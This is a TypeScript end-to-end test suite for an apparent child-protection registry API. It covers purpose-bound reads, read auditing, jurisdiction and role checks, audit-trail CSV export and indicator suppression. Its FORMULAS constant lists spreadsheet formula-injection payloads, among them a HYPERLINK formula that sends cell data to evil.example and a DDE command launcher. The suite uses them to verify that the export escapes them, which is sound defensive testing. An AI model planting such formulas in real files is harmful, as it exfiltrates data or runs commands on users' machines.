import type { INestApplication } from '@nestjs/common';
import { parse } from 'csv-parse/sync';
import { Pool } from 'pg';
import { loadAdministrativeUnits } from '@childledger/admin-units';
import { createPool, createTestDatabase, TestDatabase } from '@childledger/database';
import { createPostgresEventStore, EventStore } from '@childledger/event-store';
import { loadConfig, PlatformConfig } from '@childledger/platform';
import { ALL_MIGRATIONS } from '@childledger/migrations';
import { createTestAuth, TestAuth } from '@childledger/platform/testing';
import { PROJECTIONS, ProjectionRunner, UnitResolver } from '@childledger/read-models';
import { FIXTURE_IDS, LedgerFixture, writeIndicatorFixture } from '@childledger/read-models/testing';
import { createQueryApi } from '../src/query-api.app';

const CSV_CHILD = 'fx-csv';
/** Reasons that begin with each character a spreadsheet takes for a formula. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"xem")', "+1+cmd|' /C calc'!A0", '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1'];

describe('query API (e2e)', () => {
  let db: TestDatabase;
  let app: INestApplication;
  let base: string;
  let t: TestAuth;
  let pool: Pool;
  let owner: Pool;
  let store: EventStore;
  const tokens: Record<string, string> = {};

  // Bodies are asserted on, not trusted: typed loosely on purpose.
  type Res = Omit<Response, 'json'> & { json(): Promise<any> }; // eslint-disable-line @typescript-eslint/no-explicit-any
  const get = (path: string, who: string, headers: Record<string, string> = {}): Promise<Res> =>
    fetch(`${base}/api/v1${path}`, { headers: { authorization: `Bearer ${tokens[who]}`, ...headers } });
  const post = (path: string, who: string, body: string, type = 'text/csv'): Promise<Res> =>
    fetch(`${base}/api/v1${path}`, { method: 'POST', headers: { authorization: `Bearer ${tokens[who]}`, 'content-type': type }, body });

  beforeAll(async () => {
    db = await createTestDatabase(ALL_MIGRATIONS);
    pool = createPool(db.url);
    owner = createPool(db.url, { role: null, max: 2 });
    store = createPostgresEventStore({ pool });
    const fx = new LedgerFixture(store, loadAdministrativeUnits());
    await writeIndicatorFixture(fx);
    // A child whose corrections carry reasons a spreadsheet would run as formulas (the CSV export test).
    const now = new Date().toISOString();
    await fx.child(
      CSV_CHILD,
      'RegisterChild',
      { childId: CSV_CHILD, fullName: 'Phạm Văn Sổ', dateOfBirth: '2016-02-02', sex: 'M', residence: { communeCode: '00004', effectiveFrom: '2026-01-05' } },
      { at: now },
    );
    for (const [i, reason] of FORMULAS.entries()) {
      await fx.child(CSV_CHILD, 'CorrectChildDetails', { changes: { notes: `ghi chú ${i}` }, reason }, { at: now, reason });
    }
    await fx.backdate(owner);
    const runner = new ProjectionRunner({ store, pool, projections: PROJECTIONS, units: new UnitResolver(loadAdministrativeUnits()) });
    await runner.start();
    await runner.caughtUp();
    await runner.stop();
    t = await createTestAuth();
    tokens['officer'] = await t.tokenFor(t.users.communeOfficer); // data officer, commune 00004
    tokens['ngocHaOfficer'] = await t.tokenFor({ role: 'data_officer', userId: 'ngoc-ha-officer', provinces: ['01'], communes: ['00008'] });
    tokens['caseWorker'] = await t.tokenFor(t.users.provinceCaseWorker);
    tokens['inspector'] = await t.tokenFor(t.users.provinceInspector);
    tokens['admin'] = await t.tokenFor(t.users.admin);
    tokens['hcmInspector'] = await t.tokenFor({ role: 'inspector', userId: 'hcm-inspector', provinces: ['79'] });
    const config = loadConfig(PlatformConfig, { LOG_LEVEL: 'silent', CHILDLEDGER_KEK: Buffer.alloc(32, 7).toString('base64') });
    app = await createQueryApi(config, db.url, { auth: t.auth });
    await app.listen(0, '127.0.0.1');
    base = (await app.getUrl()).replace('[::1]', '127.0.0.1');
  });

  afterAll(async () => {
    await app.close();
    await store.close();
    await pool.end();
    await owner.end();
    await db.drop();
  });

  describe('child records and the read audit', () => {
    it('refuses a read of personal data without a purpose (400 naming the field), and records nothing', async () => {
      const res = await get(`/children/${FIXTURE_IDS.A}`, 'inspector');
      expect(res.status).toBe(400);
      expect(await res.json()).toMatchObject({ field: 'purpose' });
      expect((await get(`/children/${FIXTURE_IDS.A}?purpose=curiosity`, 'inspector')).status).toBe(400);
      expect(Number((await owner.query('SELECT count(*) FROM read_audit')).rows[0].count)).toBe(0);
    });

    it('returns the record with a purpose (query or header) and records who read it, when and why', async () => {
      const res = await get(`/children/${FIXTURE_IDS.A}?purpose=case_work`, 'caseWorker');
      expect(res.status).toBe(200);
      expect(await res.json()).toMatchObject({
        childId: FIXTURE_IDS.A,
        personal: { fullName: 'Nguyễn Thị An' },
        residence: { recordedCommuneCode: '00006', communeCode: '00008' },
        circumstances: [1],
      });
      expect((await get(`/children/${FIXTURE_IDS.A}`, 'inspector', { 'x-purpose': 'inspection' })).status).toBe(200);
      const views = await (await get(`/children/${FIXTURE_IDS.A}/views`, 'inspector')).json();
      expect(views.views.map((v: { userId: string; purpose: string }) => [v.userId, v.purpose])).toEqual([
        ['dev-province-case-worker', 'case_work'],
        ['dev-province-inspector', 'inspection'],
      ]);
    });

    it('answers a child outside the jurisdiction exactly like an unknown one (404, same body, no unit named), and audits neither', async () => {
      const before = Number((await owner.query('SELECT count(*) FROM read_audit')).rows[0].count);
      const outside = await get(`/children/${FIXTURE_IDS.A}?purpose=case_work`, 'officer'); // lives in 00008, officer works in 00004
      const unknown = await get(`/children/nobody?purpose=case_work`, 'officer');
      expect([outside.status, unknown.status]).toEqual([404, 404]);
      const [outsideText, unknownText] = [await outside.text(), await unknown.text()];
      expect(outsideText.replaceAll(FIXTURE_IDS.A, '<id>')).toBe(unknownText.replaceAll('nobody', '<id>'));
      expect(outsideText).not.toMatch(/000\d\d|commune|jurisdiction/);
      expect((await get(`/children/${FIXTURE_IDS.A}?purpose=inspection`, 'hcmInspector')).status).toBe(404);
      expect((await get(`/children/${FIXTURE_IDS.E}/as-of?date=2025-01-01&purpose=inspection`, 'hcmInspector')).status).toBe(404);
      expect(Number((await owner.query('SELECT count(*) FROM read_audit')).rows[0].count)).toBe(before);
      expect((await get(`/children/${FIXTURE_IDS.A}?purpose=case_work`, 'ngocHaOfficer')).status).toBe(200);
    });

    it('names the unit a caller asked about, never one of a record', async () => {
      const res = await get('/cases?unit=79', 'caseWorker');
      expect(res.status).toBe(403);
      expect((await res.json()).message).toBe('unit 79 is outside your jurisdiction');
    });

    it('lets only inspectors and admins ask who viewed a child (403 for other roles; 404 outside the jurisdiction)', async () => {
      expect((await get(`/children/${FIXTURE_IDS.A}/views`, 'caseWorker')).status).toBe(403);
      expect((await get(`/children/${FIXTURE_IDS.A}/views`, 'hcmInspector')).status).toBe(404);
    });

    it("masks an erased child's personal data", async () => {
      expect(await (await get(`/children/${FIXTURE_IDS.G}?purpose=inspection`, 'inspector')).json()).toMatchObject({
        status: 'erased',
        personal: null,
        personalDataErased: true,
      });
    });

    it('answers as-of queries in effective and recorded time, with a purpose', async () => {
      expect((await get(`/children/${FIXTURE_IDS.E}/as-of?date=2024-06-01`, 'inspector')).status).toBe(400);
      const eff = await (await get(`/children/${FIXTURE_IDS.E}/as-of?date=2025-01-01&time=effective&purpose=inspection`, 'inspector')).json();
      expect(eff).toMatchObject({ time: 'effective', record: { circumstances: [] } });
      const rec = await (await get(`/children/${FIXTURE_IDS.E}/as-of?date=2025-01-01&time=recorded&purpose=inspection`, 'inspector')).json();
      expect(rec).toMatchObject({ time: 'recorded', record: { circumstances: [3], residence: { communeCode: '00004' } } });
      expect((await get(`/children/${FIXTURE_IDS.E}/as-of?date=2023-01-01&purpose=inspection`, 'inspector')).status).toBe(404);
      expect((await get(`/children/${FIXTURE_IDS.E}/as-of?date=2025-01-01&time=later&purpose=inspection`, 'inspector')).status).toBe(400);
      expect((await get(`/children/${FIXTURE_IDS.E}/as-of?date=2025-01-01&purpose=inspection`, 'hcmInspector')).status).toBe(404);
      const views = await (await get(`/children/${FIXTURE_IDS.E}/views`, 'admin')).json();
      expect(views.views.map((v: { view: string }) => v.view)).toEqual([
        'as_of_effective:2025-01-01',
        'as_of_recorded:2025-01-01',
        'as_of_effective:2023-01-01',
      ]);
    });
  });

  describe('cases', () => {
    it('reads a case with a purpose, checks role and jurisdiction, lists cases of a unit without personal data', async () => {
      expect((await get('/cases/fx-case-c', 'caseWorker')).status).toBe(400);
      expect(await (await get('/cases/fx-case-c?purpose=case_work', 'caseWorker')).json()).toMatchObject({
        status: 'implementing',
        assessedOnTime: false,
        personal: { description: 'gọi 111' },
      });
      // One role table (the platform's CASE_CONTENT_ROLES, as on the registry API): a data officer does not see case content.
      const officer = await get('/cases/fx-case-c?purpose=case_work', 'officer');
      expect(officer.status).toBe(403);
      expect(JSON.stringify(await officer.json())).not.toContain('gọi 111');
      // A case whose child lives outside the jurisdiction: the same 404 as an unknown case.
      const outside = await get('/cases/fx-case-c?purpose=inspection', 'hcmInspector');
      const unknown = await get('/cases/no-such-case?purpose=inspection', 'hcmInspector');
      expect([outside.status, unknown.status]).toEqual([404, 404]);
      expect((await outside.text()).replaceAll('fx-case-c', '<id>')).toBe((await unknown.text()).replaceAll('no-such-case', '<id>'));
      const list = await (await get('/cases?unit=01', 'caseWorker')).json();
      expect(list.cases.map((c: { caseId: string }) => c.caseId).sort()).toEqual(['fx-case-a', 'fx-case-c', 'fx-case-d']);
      expect(JSON.stringify(list)).not.toContain('gọi 111');
      expect((await get('/cases?unit=79', 'caseWorker')).status).toBe(403);
    });
  });

  describe('reconciliation queue', () => {
    it('lists the children waiting for a decision in a unit, for data officers and admins', async () => {
      const q = await (await get('/reconciliation-queue?unit=00008', 'ngocHaOfficer')).json();
      expect(q.items).toEqual([expect.objectContaining({ childId: FIXTURE_IDS.C, reason: 'residence_split' })]);
      expect((await get('/reconciliation-queue?unit=00008', 'inspector')).status).toBe(403);
      expect((await get('/reconciliation-queue?unit=00008', 'officer')).status).toBe(403);
    });
  });

  describe('audit trail', () => {
    it("lists a child's events with who, what, when, why and correlation id, paged by keyset, for inspectors in jurisdiction", async () => {
      const first = await (await get(`/audit/events?childId=${FIXTURE_IDS.F}&limit=2`, 'inspector')).json();
      expect(first.items).toHaveLength(2);
      const second = await (await get(`/audit/events?childId=${FIXTURE_IDS.F}&limit=2&cursor=${first.nextCursor}`, 'inspector')).json();
      expect(second.nextCursor).toBeNull();
      const all = [...first.items, ...second.items];
      expect(all.map((i: { eventType: string }) => i.eventType)).toEqual(['ChildRegistered', 'SpecialCircumstanceIdentified', 'ChildRecordsMerged']);
      expect(all[2]).toMatchObject({ actor: { userId: 'fixture-officer', role: 'data_officer', unit: '00004' }, reason: 'duplicate of fx-a' });
      expect(all[2].correlationId).toMatch(/^[0-9a-f-]{36}$/);
      expect(JSON.stringify(all)).not.toContain('Nguyen Thi An');
    });

    it("filters by actor, event type, unit and time range, and includes the identity adapter's calls", async () => {
      const adapter = await (await get('/audit/events?actorId=identity-adapter', 'inspector')).json();
      expect(adapter.items.map((i: { eventType: string; childId: string }) => [i.eventType, i.childId])).toEqual([['NationalIdLinked', FIXTURE_IDS.B]]);
      const closed = await (await get('/audit/events?eventType=CaseClosed', 'admin')).json();
      expect(closed.items).toEqual([expect.objectContaining({ caseId: 'fx-case-d', childId: FIXTURE_IDS.D })]);
      const in2024 = await (await get('/audit/events?from=2024-01-01&to=2024-12-31&limit=500', 'inspector')).json();
      expect(in2024.items.every((i: { recordedAt: string }) => i.recordedAt.startsWith('2024'))).toBe(true);
      expect(in2024.items).toHaveLength(6);
      const unit = await (await get('/audit/events?unit=00025&limit=500', 'inspector')).json();
      expect(new Set(unit.items.map((i: { childId: string }) => i.childId))).toEqual(new Set([FIXTURE_IDS.E]));
    });

    it('exports a reason beginning with a formula character as text: =, +, -, @, tab and carriage return each get a leading quote', async () => {
      const csv = await get(`/audit/events.csv?childId=${CSV_CHILD}`, 'inspector');
      expect(csv.status).toBe(200);
      const rows = parse(await csv.text(), { columns: true, relax_quotes: true }) as { event_type: string; reason: string }[];
      const reasons = rows.filter((r) => r.event_type === 'ChildDetailsCorrected').map((r) => r.reason);
      expect(reasons).toEqual(FORMULAS.map((f) => `'${f}`));
      // The JSON trail keeps the reason as it was written.
      const json = await (await get(`/audit/events?childId=${CSV_CHILD}`, 'inspector')).json();
      expect(json.items.filter((i: { eventType: string }) => i.eventType === 'ChildDetailsCorrected').map((i: { reason: string }) => i.reason)).toEqual(
        FORMULAS,
      );
    });

    it('exports CSV, refuses other roles (403), shows nothing outside the jurisdiction, and rejects bad filters (400)', async () => {
      const csv = await get(`/audit/events.csv?childId=${FIXTURE_IDS.C}`, 'inspector');
      expect(csv.headers.get('content-type')).toContain('text/csv');
      const lines = (await csv.text()).trim().split('\n');
      expect(lines[0]).toContain('recorded_at,event_type,stream_id');
      expect(lines.length).toBeGreaterThan(5);
      expect((await get('/audit/events', 'caseWorker')).status).toBe(403);
      expect((await get('/audit/events', 'officer')).status).toBe(403);
      expect((await (await get('/audit/events', 'hcmInspector')).json()).items).toEqual([]);
      expect((await get('/audit/events?from=yesterday', 'inspector')).status).toBe(400);
      expect((await get('/audit/events?cursor=xyz', 'inspector')).status).toBe(400);
      // A well-formed cursor naming an instant that does not exist: 400 naming the field, not a cast error from the database.
      const madeUp = await get(`/audit/events?cursor=${Buffer.from(JSON.stringify(['2025-02-30 10:00:00+00', '12'])).toString('base64url')}`, 'inspector');
      expect({ status: madeUp.status, field: (await madeUp.json()).field }).toEqual({ status: 400, field: 'cursor' });
    });
  });

  describe('indicators', () => {
    it('loads targets and child populations from CSV as versions (admin, inspector), refusing bad rows and other roles', async () => {
      expect((await post('/indicators/populations', 'officer', 'unit_code,period,child_population\n00008,2025,1000\n')).status).toBe(403);
      const bad = await post('/indicators/populations', 'inspector', 'unit_code,period,child_population\n00008,2025,many\n');
      expect(bad.status).toBe(400);
      expect(await bad.json()).toMatchObject({ field: 'child_population', row: 2 });
      expect((await post('/indicators/populations', 'hcmInspector', 'unit_code,period,child_population\n00008,2025,1000\n')).status).toBe(403);
      expect(await (await post('/indicators/populations', 'inspector', 'unit_code,period,child_population\n00008,2025,900\n01,2025,2000000\n')).json()).toEqual(
        { kind: 'population', version: 1, rows: 2 },
      );
      expect(await (await post('/indicators/populations', 'admin', 'unit_code,period,child_population\n00008,2025,1000\n')).json()).toMatchObject({
        version: 2,
      });
      expect((await post('/indicators/targets', 'admin', 'unit_code,period,indicator,target\n00008,2025,sc_supported_share,98\n')).status).toBe(201);
      expect((await post('/indicators/targets', 'admin', 'unit_code,period,indicator,target\n00008,2025,happiness,98\n')).status).toBe(400);
    });

    it("reports a commune's indicators for a year as hand-computed, with targets, population and no suppression for case-seeing roles", async () => {
      const r = await (await get('/indicators?unit=00008&period=2025', 'inspector')).json();
      const v = Object.fromEntries(r.indicators.map((i: { indicator: string; value: number }) => [i.indicator, i.value]));
      expect(v).toMatchObject({
        sc_children: 3,
        sc_rate: 0.3,
        sc_supported_share: 33.33,
        at_risk_children: 1,
        cases_opened: 2,
        assessed_on_time_share: 50,
        national_id_linked_share: 50,
      });
      expect(r.childPopulation).toEqual({ value: 1000, version: 2 });
      expect(r.indicators.find((i: { indicator: string }) => i.indicator === 'sc_supported_share').target).toBe(98);
    });

    it('suppresses counts below 5 for data officers; checks jurisdiction and input', async () => {
      const r = await (await get('/indicators?unit=00008&period=2025', 'ngocHaOfficer')).json();
      expect(r.indicators.find((i: { indicator: string }) => i.indicator === 'sc_children')).toMatchObject({ value: null, suppressed: true });
      expect((await get('/indicators?unit=00008&period=2025', 'officer')).status).toBe(403);
      expect((await get('/indicators?unit=01&period=2025', 'hcmInspector')).status).toBe(403);
      expect(await (await get('/indicators?unit=00008&period=last-year', 'inspector')).json()).toMatchObject({ field: 'period' });
      expect(await (await get('/indicators?unit=00007&period=2025', 'inspector')).json()).toMatchObject({ field: 'unit' }); // not in force at the end of 2025
    });

    it('reports in the pre-2025 units when asked for a date before the reform', async () => {
      const r = await (await get('/indicators?unit=00007&period=2025&unitsOn=2025-06-30', 'inspector')).json();
      expect(r).toMatchObject({ units: 'pre_2025', childrenOnRecord: 1 });
    });
  });
});
